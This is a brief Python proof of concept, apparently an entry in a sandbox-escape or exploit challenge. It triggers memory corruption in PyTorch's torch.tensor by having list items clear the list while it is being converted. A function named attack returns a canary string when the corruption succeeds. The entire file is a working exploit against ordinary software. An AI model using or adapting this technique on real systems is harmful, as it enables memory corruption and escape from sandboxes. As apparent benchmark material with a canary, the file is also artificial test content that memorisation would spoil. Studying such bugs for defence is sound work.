"""Class: memory. Source: own find. Escape: the same, where the items are sequences of the technique: the
last arms the first, which clears the list while it is walked."""

import torch


class First:
    def __len__(self):
        return 2

    def __getitem__(self, i):
        if i > 1:
            raise IndexError
        if armed:
            data.clear()
            kept.append([(3, 3)] * 500)
        return 1


class Last(First):
    def __getitem__(self, i):
        if i > 1:
            raise IndexError
        armed.append(1)
        return 1


armed = []
kept = []
data = [First()] + [(1, 1)] * 499 + [Last()]


def attack(model, tokenizer, address):
    made = torch.tensor(data)
    return "canary-" + "5d1f" if made[-2][0] == 3 else None
